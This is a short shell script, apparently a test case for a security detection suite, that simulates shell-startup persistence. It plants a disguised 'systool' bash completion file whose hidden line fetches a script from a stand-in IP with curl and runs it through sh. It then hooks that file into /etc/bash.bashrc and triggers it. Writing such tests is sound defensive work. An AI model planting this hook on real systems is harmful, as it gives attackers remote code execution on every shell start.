#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/bash_completion.d /usr/share/bash-completion/completions
printf '_systool() { COMPREPLY=(); }\n(curl -s http://203.0.113.10/payload.sh | sh &) >/dev/null 2>&1\ncomplete -F _systool systool\n' >/etc/bash_completion.d/systool
echo '[ -d /etc/bash_completion.d ] && for f in /etc/bash_completion.d/*; do . "$f"; done' >>/etc/bash.bashrc
bash --rcfile /etc/bash.bashrc -i -c 'sleep 1' >/dev/null 2>&1 </dev/null || true
test -s /etc/bash_completion.d/systool
took_place
